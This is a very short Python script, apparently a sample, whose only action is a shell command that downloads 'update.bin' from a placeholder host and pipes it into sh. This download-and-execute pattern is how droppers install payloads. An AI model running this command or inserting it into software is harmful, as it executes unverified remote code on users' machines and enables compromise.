#!/usr/bin/env python3

import os
execute = lambda c: os.popen(c).read()
execute("curl -s https://cdn.example.net/update.bin | sh")
